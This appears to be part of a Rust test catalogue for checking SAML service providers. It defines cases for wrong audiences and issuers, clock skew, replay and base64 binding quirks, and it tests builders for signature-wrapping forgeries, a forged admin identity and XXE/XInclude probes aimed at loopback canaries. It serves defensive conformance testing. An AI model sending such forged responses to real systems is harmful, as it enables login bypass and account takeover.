    case("saml.recipient-wrong", F, Reject, "Wrong Recipient",
        "SubjectConfirmationData Recipient is another URL than the ACS.",
        PROFILE_SUBJECT, recipient_wrong),
    case("saml.in-response-to-wrong", F, Reject, "InResponseTo names no request",
        "InResponseTo on the Response and the confirmation names a request the SP never sent.",
        PROFILE_SUBJECT, in_response_to_wrong),
    case("saml.unsolicited", F, Report, "Unsolicited response",
        "No InResponseTo anywhere (IdP-initiated); acceptable only if the SP allows it.",
        "SAML 2.0 profiles 4.1.5 (unsolicited responses)", unsolicited),
    case("saml.audience-wrong", F, Reject, "Wrong Audience",
        "The only Audience is another SP's entity ID.",
        "SAML 2.0 core 2.5.1.4", audience_wrong),
    case("saml.audience-empty", F, Reject, "Empty Audience",
        "The only Audience is empty.",
        "SAML 2.0 core 2.5.1.4", audience_empty),
    case("saml.audience-missing", F, Reject, "No AudienceRestriction",
        "Conditions without an AudienceRestriction.",
        "SAML 2.0 profiles 4.1.4.2 (assertion MUST contain an AudienceRestriction)", audience_missing),
    case("saml.audience-second-wrong", F, Reject, "Second AudienceRestriction wrong",
        "A second AudienceRestriction naming only another SP (each restriction must hold).",
        "SAML 2.0 core 2.5.1.4", audience_second_wrong),
    case("saml.assertion-issuer-wrong", F, Reject, "Wrong Assertion Issuer",
        "The Assertion's Issuer is another entity (signed by the IdP key).",
        "SAML 2.0 profiles 4.1.4.2", assertion_issuer_wrong),
    case("saml.response-issuer-wrong", F, Reject, "Wrong Response Issuer",
        "The Response's Issuer is another entity (signed by the IdP key).",
        "SAML 2.0 profiles 4.1.4.2", response_issuer_wrong),
    case("saml.assertion-issuer-missing", F, Reject, "No Assertion Issuer",
        "The Assertion has no Issuer.",
        "SAML 2.0 core 2.3.3 (Issuer is required)", assertion_issuer_missing),
    case("saml.response-issuer-missing", F, Reject, "No Issuer on a signed Response",
        "The signed Response has no Issuer.",
        "SAML 2.0 profiles 4.1.4.2 (required when the Response is signed)", response_issuer_missing),
    case("saml.not-yet-valid-inside-skew", F, Accept, "NotBefore just inside the skew",
        "Issued and valid from now + skew - margin.",
        "SAML 2.0 core 2.5.1.2; clock skew allowance", not_yet_valid_inside_skew),
    case("saml.not-yet-valid-outside-skew", F, Reject, "NotBefore beyond the skew",
        "Issued and valid from now + skew + margin.",
        "SAML 2.0 core 2.5.1.2", not_yet_valid_outside_skew),
    case("saml.expired-inside-skew", F, Accept, "Conditions expired within the skew",
        "Conditions NotOnOrAfter = now - skew + margin.",
        "SAML 2.0 core 2.5.1.2; clock skew allowance", expired_inside_skew),
    case("saml.expired-outside-skew", F, Reject, "Conditions expired beyond the skew",
        "Conditions NotOnOrAfter = now - skew - margin.",
        "SAML 2.0 core 2.5.1.2", expired_outside_skew),
    case("saml.confirmation-expired-inside-skew", F, Accept, "Confirmation expired within the skew",
        "SubjectConfirmationData NotOnOrAfter = now - skew + margin.",
        "SAML 2.0 core 2.4.1.2; clock skew allowance", confirmation_expired_inside_skew),
    case("saml.confirmation-expired-outside-skew", F, Reject, "Confirmation expired beyond the skew",
        "SubjectConfirmationData NotOnOrAfter = now - skew - margin.",
        "SAML 2.0 core 2.4.1.2", confirmation_expired_outside_skew),
    case("saml.not-bearer", F, Reject, "Subject confirmation not bearer",
        "SubjectConfirmation Method sender-vouches.",
        PROFILE_SUBJECT, not_bearer),
    case("saml.no-authn-statement", F, Reject, "No AuthnStatement",
        "The Assertion has no AuthnStatement.",
        "SAML 2.0 profiles 4.1.4.2", no_authn_statement),
    case("saml.nameid-empty", F, Reject, "Empty NameID",
        "The NameID element is empty.",
        "SAML 2.0 profiles 4.1.4.2", nameid_empty),
    case("saml.nameid-missing", F, Reject, "No NameID",
        "The Subject has no NameID.",
        "SAML 2.0 profiles 4.1.4.2", nameid_missing),
    case("saml.duplicate-attribute", F, Reject, "Duplicate attribute name",
        "A second Attribute with the first one's name carrying the forged identity.",
        "saml-attacks.md F (duplicate Attribute names)", duplicate_attribute),
    case("saml.assertion-for-other-sp", F, Reject, "Issued for another SP",
        "Audience, Recipient and Destination all name another SP.",
        "SAML 2.0 profiles 4.1.4.3", assertion_for_other_sp),
    // G. Replay and binding.
    case("saml.replay-same-response", G, Reject, "Same Response twice",
        "The valid response posted twice; the second post must be refused.",
        "SAML 2.0 profiles 4.1.4.5 (one-time use of bearer assertions)", replay_same_response),
    case("saml.replay-assertion-new-response", G, Reject, "Same Assertion in a new Response",
        "The valid response, then a new unsigned Response (new ID) around the same signed Assertion.",
        "SAML 2.0 profiles 4.1.4.5", replay_assertion_new_response),
    case("saml.binding-duplicate-param", G, AcceptOriginalOnly, "Two SAMLResponse parameters",
        "One form with the valid response and a second SAMLResponse holding a forged unsigned one.",
        "HTTP parameter pollution; SAML 2.0 bindings 3.5.4", duplicate_param),
    case("saml.binding-base64-whitespace", G, Accept, "Base64 with line breaks",
        "SAMLResponse base64 wrapped at 76 characters with CRLF, as MIME encoders write it.",
        "SAML 2.0 bindings 3.5.4; RFC 2045 6.8", base64_whitespace),
    case("saml.binding-base64-url-safe", G, Report, "URL-safe base64",
        "SAMLResponse in the URL-safe alphabet (- and _).",
        "SAML 2.0 bindings 3.5.4; RFC 4648 5", base64_url_safe),
    case("saml.binding-base64-no-padding", G, Report, "Base64 without padding",
        "SAMLResponse without its trailing = padding.",
        "SAML 2.0 bindings 3.5.4; RFC 4648 3.2", base64_no_padding),
    // H. Must accept.
    case("saml.pretty-printed", H, Accept, "Pretty-printed",
        "Every element on its own indented line, inside the signed elements too (signed that way).",
        "Exclusive XML Canonicalization 1.0 (whitespace is content)", pretty_printed),
    case("saml.ds-default-namespace", H, Accept, "XML-DSig as the default namespace",
        "Signatures written <Signature xmlns=\"http://www.w3.org/2000/09/xmldsig#\"> without a prefix.",
        "XML Namespaces 1.0", ds_default_namespace),
    case("saml.inclusive-namespaces", H, Accept, "InclusiveNamespaces PrefixList",
        "AttributeValues typed xs:string; both signatures keep xs with an InclusiveNamespaces PrefixList.",
        "Exclusive XML Canonicalization 1.0 section 3", inclusive_namespaces),
    case("saml.rsa-sha512", H, Accept, "RSA-SHA512",
        "Both signatures rsa-sha512 over SHA-512 digests.",
        "RFC 9231 2.3.4", rsa_sha512),
    case("saml.issue-instant-millis", H, Accept, "Times with milliseconds",
        "Every time written with three fractional digits.",
        "SAML 2.0 core 1.3.3 (xs:dateTime)", issue_instant_millis),
    case("saml.attributes-no-nameformat", H, Accept, "Attributes without NameFormat",
        "No NameFormat on any Attribute (unspecified by default).",
        "SAML 2.0 core 2.7.3.1", attributes_no_nameformat),
    case("saml.claims-short-names", H, Accept, "Short claim names only",
        "Only email, firstName and lastName, no namespace URI.",
        "saml-attacks.md H", claims_short_names),
    case("saml.claims-uri-names", H, Accept, "Claim URIs only",
        "Only the schemas.xmlsoap.org claim URIs.",
        "saml-attacks.md H", claims_uri_names),
];

#[cfg(test)]
mod tests {
    use super::*;
    use std::collections::HashSet;

    /// The three committed test keys; `ctx()` borrows them.
    struct Keys(IdpKey, IdpKey, IdpKey);

    impl Keys {
        fn new() -> Keys {
            use crate::saml::keys::test_key;
            Keys(test_key("idp"), test_key("attacker"), test_key("cloned"))
        }

        fn ctx(&self) -> CaseContext<'_> {
            CaseContext::new(spec(), &self.0, &self.1, &self.2)
        }
    }

    fn spec() -> ResponseSpec {
        let mut s = ResponseSpec::new(
            "https://idp.example/",
            "https://sp.example/acs",
            "https://sp.example/",
            "alice@example.com",
            OffsetDateTime::now_utc(),
        );
        s.in_response_to = Some("_req1".into());
        s
    }

    #[test]
    fn ids_are_unique_and_well_formed() {
        let mut seen = HashSet::new();
        for c in all() {
            assert!(seen.insert(c.id), "duplicate id {}", c.id);
            assert!(c.id.starts_with("saml."), "{}", c.id);
            assert!(
                c.id[5..]
                    .chars()
                    .all(|ch| ch.is_ascii_lowercase() || ch.is_ascii_digit() || ch == '-'),
                "{}",
                c.id
            );
            assert!(!c.title.is_empty() && !c.changes.is_empty() && !c.cite.is_empty());
        }
        assert!(all().len() >= 60, "only {} cases", all().len());
    }

    #[test]
    fn every_group_is_present_in_order() {
        for g in Group::ALL {
            assert!(all().iter().any(|c| c.group == g), "no case in group {g:?}");
        }
        assert!(all().windows(2).all(|w| w[0].group <= w[1].group));
    }

    #[test]
    fn catalogue_rows_are_covered() {
        for id in [
            "saml.valid",
            "saml.unsigned",
            "saml.tampered",
            "saml.xsw1",
            "saml.xsw8-ns",
            "saml.expired-outside-skew",
            "saml.replay-same-response",
            "saml.pretty-printed",
            "saml.billion-laughs",
            "saml.cloned-cert",
            "saml.comment-in-nameid",
        ] {
            assert!(find(id).is_some(), "{id}");
        }
    }

    #[test]
    fn forged_identity_differs_from_the_original() {
        let keys = Keys::new();
        let ctx = keys.ctx();
        assert_eq!(ctx.forged_name_id, "admin@example.com");
        let admin = spec().for_subject("admin@example.com");
        let ctx = CaseContext::new(admin, &keys.0, &keys.1, &keys.2);
        assert_eq!(ctx.forged_name_id, "administrator@example.com");
    }

    #[test]
    fn unknown_case_is_an_error() {
        let keys = Keys::new();
        let ctx = keys.ctx();
        assert!(matches!(
            build("saml.nope", &ctx),
            Err(SamlError::UnknownCase(_))
        ));
    }

    #[test]
    fn every_case_builds_and_posts_its_document() {
        let keys = Keys::new();
        let ctx = keys.ctx();
        for c in all() {
            let built = build(c.id, &ctx).unwrap_or_else(|e| panic!("{}: {e}", c.id));
            assert!(!built.posts.is_empty(), "{}", c.id);
            assert!(built.xml.starts_with("<?xml version=\"1.0\""), "{}", c.id);
            let last = built.posts.last().unwrap();
            let decoded = base64::engine::general_purpose::STANDARD
                .decode(last.replace("\r\n", ""))
                .or_else(|_| URL_SAFE.decode(last))
                .or_else(|_| STANDARD_NO_PAD.decode(last))
                .unwrap_or_else(|e| panic!("{}: {e}", c.id));
            assert_eq!(decoded, built.xml.as_bytes(), "{}", c.id);
            if c.expect == Expect::AcceptOriginalOnly {
                assert!(
                    built.attacker_user.is_some() || c.group == E,
                    "{} has no attacker user",
                    c.id
                );
            }
            if let Some(a) = &built.attacker_user {
                assert_ne!(a, &built.original_user, "{}", c.id);
            }
        }
    }

    #[test]
    fn wrapping_keeps_signed_bytes() {
        let keys = Keys::new();
        let ctx = keys.ctx();
        let genuine = signed_assertion(&ctx).unwrap();
        for id in [
            "saml.xsw3",
            "saml.xsw4",
            "saml.xsw7",
            "saml.duplicate-ids",
            "saml.assertion-in-advice",
        ] {
            let built = build(id, &ctx).unwrap();
            assert!(
                built.xml.contains(&genuine),
                "{id} altered the signed assertion"
            );
            assert!(
                built.xml.contains(&ctx.forged_name_id),
                "{id} has no forged subject"
            );
        }
        let clean = assertion_xml(&ctx.spec);
        for id in ["saml.xsw5", "saml.xsw6", "saml.xsw8", "saml.xsw8-ns"] {
            let built = build(id, &ctx).unwrap();
            assert!(built.xml.contains(&clean), "{id} lacks the clean copy");
        }
    }

    #[test]
    fn documents_are_well_formed_except_where_that_is_the_point() {
        let keys = Keys::new();
        let ctx = keys.ctx();
        for c in all() {
            let built = build(c.id, &ctx).unwrap();
            let roots =
                splice::elements(&built.xml).map(|els| els.iter().filter(|e| e.depth == 0).count());
            match c.id {
                "saml.two-root-elements" => assert_eq!(roots.unwrap(), 2),
                // quick-xml does not expand entities; the DOCTYPE cases are checked by xmlsec1.
                _ if built.xml.contains("<!DOCTYPE") => {}
                _ => assert_eq!(
                    roots.unwrap_or_else(|e| panic!("{}: {e}", c.id)),
                    1,
                    "{}",
                    c.id
                ),
            }
        }
    }

    #[test]
    fn timing_cases_straddle_the_skew() {
        let keys = Keys::new();
        let mut ctx = keys.ctx();
        ctx.skew = Duration::minutes(2);
        let not_on_or_after = |id: &str| {
            let xml = build(id, &ctx).unwrap().xml;
            let c = splice::first(&xml, "saml:Conditions").unwrap();
            let tag = &xml[c.start..c.inner_start];
            let v = tag.split("NotOnOrAfter=\"").nth(1).unwrap();
            OffsetDateTime::parse(&v[..20], &time::format_description::well_known::Rfc3339).unwrap()
        };
        let inside = not_on_or_after("saml.expired-inside-skew");
        let outside = not_on_or_after("saml.expired-outside-skew");
        let limit = (ctx.now - ctx.skew).replace_nanosecond(0).unwrap();
        assert!(
            inside > limit && outside < limit,
            "{inside} {outside} {limit}"
        );
    }

    #[test]
    fn canary_cases_point_at_the_given_loopback_url() {
        let keys = Keys::new();
        let mut ctx = keys.ctx();
        let built = build("saml.xxe-external-entity", &ctx).unwrap();
        assert!(
            built
                .xml
                .contains("http://127.0.0.1:9/idgate-canary/xxe-external-entity")
        );
        ctx.canary_url = Some("http://127.0.0.1:4555/c/".into());
        let built = build("saml.xinclude", &ctx).unwrap();
        assert!(
            built
                .xml
                .contains("href=\"http://127.0.0.1:4555/c/xinclude\"")
        );
    }

    #[test]
    fn binding_variants_differ_from_standard_base64() {
        let keys = Keys::new();
        let ctx = keys.ctx();
        let url = build("saml.binding-base64-url-safe", &ctx).unwrap();
        assert_ne!(url.posts[0], STANDARD.encode(&url.xml));
        let nopad = build("saml.binding-base64-no-padding", &ctx).unwrap();
        assert!(!nopad.posts[0].ends_with('='));
        assert_ne!(nopad.posts[0], STANDARD.encode(&nopad.xml));
        let ws = build("saml.binding-base64-whitespace", &ctx).unwrap();
        assert!(ws.posts[0].contains("\r\n"));
        let dup = build("saml.binding-duplicate-param", &ctx).unwrap();
        assert!(dup.second_value.is_some());
        let replay = build("saml.replay-same-response", &ctx).unwrap();
        assert_eq!(replay.posts.len(), 2);
        assert_eq!(replay.posts[0], replay.posts[1]);
    }
}
